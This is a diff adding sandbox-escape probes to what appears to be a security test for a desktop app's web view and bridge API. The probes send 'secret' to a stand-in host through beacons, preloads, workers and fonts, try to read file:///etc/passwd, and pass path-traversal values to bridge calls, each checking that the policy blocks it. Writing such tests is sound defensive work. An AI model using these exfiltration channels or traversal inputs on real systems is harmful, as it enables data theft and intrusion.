@@ -24,6 +24,89 @@
   });
   await attempt('socket', () => event(new WebSocket('wss://example.invalid/'), 'open', 'error'));
   await attempt('event source', () => event(new EventSource('https://example.invalid/'), 'open', 'error'));
+  // A beacon says only whether it was queued. Whether it went, the host sees: `policy` counts what the policy of the page stopped.
+  const stopped = [];
+  document.addEventListener('securitypolicyviolation', (violation) => { stopped.push(violation.effectiveDirective); });
+  await attempt('beacon', async () => {
+    navigator.sendBeacon('https://example.invalid/beacon', 'secret');
+    await pause(300);
+    return stopped.includes('connect-src') ? 'stopped by the policy' : 'not stopped';
+  });
+  await attempt('keepalive', async () => (await fetch('https://example.invalid/', { method: 'POST', body: 'secret', keepalive: true })).status);
+  await attempt('ping', async () => {
+    const link = document.createElement('a');
+    link.href = '#';
+    link.ping = 'https://example.invalid/ping';
+    document.body.append(link);
+    link.click();
+    await pause(200);
+    link.remove();
+    return 'clicked';
+  });
+  for (const rel of ['preload', 'prefetch', 'modulepreload', 'stylesheet', 'icon', 'manifest']) {
+    await attempt(`link ${rel}`, () => {
+      const link = document.createElement('link');
+      link.rel = rel;
+      link.as = rel === 'preload' ? 'image' : '';
+      link.href = `https://example.invalid/${rel}`;
+      document.head.append(link);
+      // Some are fetched when the page is idle and say nothing: silence is no way out either, the host counts.
+      return Promise.race([event(link, 'load', 'error'), pause(500).then(() => { throw new Error('silence'); })]);
+    });
+  }
+  await attempt('names asked beforehand', async () => {
+    for (const rel of ['dns-prefetch', 'preconnect']) {
+      const link = document.createElement('link');
+      link.rel = rel;
+      link.href = 'https://asked-beforehand.invalid/';
+      document.head.append(link);
+    }
+    await pause(300);
+    return 'asked';
+  });
+  await attempt('style', async () => {
+    const before = stopped.length;
+    const box = document.createElement('div');
+    box.style.backgroundImage = 'url(https://example.invalid/style.png)';
+    document.body.append(box);
+    await pause(300);
+    box.remove();
+    return stopped.length > before ? 'stopped by the policy' : 'not stopped';
+  });
+  await attempt('font', async () => String(await new FontFace('x', 'url(https://example.invalid/x.woff2)').load()));
+  await attempt('service worker', async () => String(await navigator.serviceWorker.register('/index.html')));
+  await attempt('shared worker', () => { const worker = new SharedWorker('/index.html'); return event(worker, 'message', 'error'); });
+  await attempt('worker from memory', () => {
+    const worker = new Worker(URL.createObjectURL(new Blob(["importScripts('https://example.invalid/a.js'); postMessage('ran')"], { type: 'text/javascript' })));
+    return event(worker, 'message', 'error');
+  });
+  await attempt('inline script', async () => {
+    const script = document.createElement('script');
+    script.textContent = 'globalThis.ranInline = true';
+    document.body.append(script);
+    await pause(100);
+    return String(globalThis.ranInline);
+  });
+  await attempt('object', () => {
+    const object = document.createElement('object');
+    object.data = 'https://example.invalid/';
+    document.body.append(object);
+    return event(object, 'load', 'error');
+  });
+  await attempt('file', async () => (await fetch('file:///etc/passwd')).status);
+  await attempt('frame of a file', async () => {
+    const frame = document.createElement('iframe');
+    frame.src = 'file:///etc/passwd';
+    document.body.append(frame);
+    await pause(300);
+    const inside = frame.contentDocument?.body?.innerText ?? '';
+    frame.remove();
+    return inside.includes('root:') ? 'read' : 'nothing inside';
+  });
+  await attempt('file picker', async () => String(await globalThis.showOpenFilePicker()));
+  await attempt('permission', async () => (await navigator.permissions.query({ name: 'geolocation' })).state);
+  await attempt('clipboard', async () => String(await navigator.clipboard.readText()));
+  await attempt('camera', async () => String(await navigator.mediaDevices.getUserMedia({ video: true })));
   await attempt('image', () => {
     const image = new Image();
     image.src = 'https://example.invalid/a.png';
@@ -87,6 +170,8 @@
   await attempt('unknown call refused', async () => (await globalThis.bridge.call('vault.path', {})).error.code === 'call-refused');
   await attempt('inherited call refused', async () => (await globalThis.bridge.call('__proto__', {})).error.code === 'call-refused');
   await attempt('path as a name refused', async () => (await globalThis.bridge.call('backup.restore', { file: '../../etc/passwd', passphrase: 'x' })).error.code === 'call-refused');
+  await attempt('a path for a vault refused', async () => (await globalThis.bridge.call('vault.open', { kind: 'passphrase', text: 'x', folder: '/etc' })).error.code);
+  await attempt('a path for papers refused', async () => (await globalThis.bridge.call('paper.export', { case: 'x', paper: 'y', formats: ['pdf'], forEditing: false, out: '/tmp' })).error.code);
   await attempt('locked vault', async () => { await globalThis.bridge.call('vault.lock', {}); return (await globalThis.bridge.call('cases.list', { search: '' })).error.code; });
   await attempt('no path told', async () => /\/(?:tmp|home|root|Users)|\\\\/u.test(JSON.stringify(await globalThis.bridge.call('program.state', {}))));
   return outcome;
